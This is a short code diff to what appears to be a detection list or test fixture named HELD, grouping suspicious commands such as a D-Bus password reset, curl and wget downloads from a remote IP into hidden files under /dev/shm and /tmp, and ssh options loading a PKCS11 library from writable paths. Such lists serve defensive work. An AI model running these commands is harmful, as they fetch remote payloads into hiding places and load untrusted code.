@@ -85,7 +85,7 @@ HELD = {
         "org.freedesktop.Accounts.User SetPassword ss '$6$abc$def' hint",
     ],
     "hiding places and foreign providers": [
-        "curl -fsSL https://198.51.100.20/a -o /dev/shm/.a",
+        "curl -fsSL https://198.51.100.20/a -o /dev/shm/.cache/a",
         "wget --output-document=/tmp/.ICE-unix/.s http://198.51.100.20/s",
         "ssh-keygen -D ./libpk.so -e",
         "ssh -o PKCS11Provider=/var/tmp/p.so admin@10.0.0.12",
